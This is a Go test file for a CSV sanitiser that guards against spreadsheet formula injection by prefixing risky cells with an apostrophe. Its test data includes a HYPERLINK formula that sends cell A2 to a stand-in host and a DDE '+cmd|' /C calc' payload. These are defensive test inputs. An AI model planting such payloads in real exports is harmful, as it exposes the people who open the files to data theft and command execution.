package csvsafe

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"":                                    "",
		"Ana Pérez":                           "Ana Pérez",
		"=1+1":                                "'=1+1",
		`=HYPERLINK("http://x/?"&A2,"Click")`: `'=HYPERLINK("http://x/?"&A2,"Click")`,
		"+cmd|' /C calc'!A0":                  "'+cmd|' /C calc'!A0",
		"-2+3":                                "'-2+3",
		"@SUM(A1:A9)":                         "'@SUM(A1:A9)",
		"\t=1+1":                              "'\t=1+1",
		"\r=1+1":                              "'\r=1+1",
		"  =1+1":                              "'  =1+1",
		"\n=1+1":                              "'\n=1+1",
		"＝1+1":                                "'＝1+1",
		"a=b":                                 "a=b",
		"ana@example.org":                     "ana@example.org",
		"+12025550142":                        "+12025550142",
		"-3":                                  "-3",
		"3.5":                                 "3.5",
		"+-3":                                 "'+-3",
		"-":                                   "'-",
		"2026-01-02T03:04:05Z":                "2026-01-02T03:04:05Z",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriterEscapesUnlessRaw(t *testing.T) {
	for _, raw := range []bool{false, true} {
		var b strings.Builder
		w := NewWriter(&b, raw)
		w.Write([]string{"note", "n"})
		w.Write([]string{`=HYPERLINK("http://x/?"&A2,"Click")`, "1"})
		w.Flush()
		if err := w.Error(); err != nil {
			t.Fatal(err)
		}
		want := "\"note\",\"n\"\n\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\",\"1\"\n"
		if raw {
			want = "\"note\",\"n\"\n\"=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\",\"1\"\n"
		}
		if b.String() != want {
			t.Errorf("raw=%v: got %q, want %q", raw, b.String(), want)
		}
	}
}

// Every field is quoted, so a spreadsheet that splits on semicolons keeps
// a note ";=1+1;" in one cell; encoding/csv reads every record back as
// written.
func TestEveryFieldIsQuotedAndReadsBack(t *testing.T) {
	rows := [][]string{{"name", "note", "empty", "number"}, {"Ana", ";=1+1;", "", "+12025550142"}, {"Bo \"B\"", "line\nbreak", "a,b", "3"}}
	var b strings.Builder
	w := NewWriter(&b, false)
	for _, r := range rows {
		w.Write(r)
	}
	w.Flush()
	for i, line := range strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")[:2] {
		for _, field := range strings.Split(line, ",") {
			if !strings.HasPrefix(field, `"`) || !strings.HasSuffix(field, `"`) {
				t.Errorf("line %d: field %s is not quoted", i+1, field)
			}
		}
	}
	if !strings.Contains(b.String(), `";=1+1;"`) {
		t.Errorf("the note is not one quoted, escaped cell:\n%s", b.String())
	}
	got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{rows[0], rows[1], rows[2]}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("read back %q, want %q", got, want)
	}
}
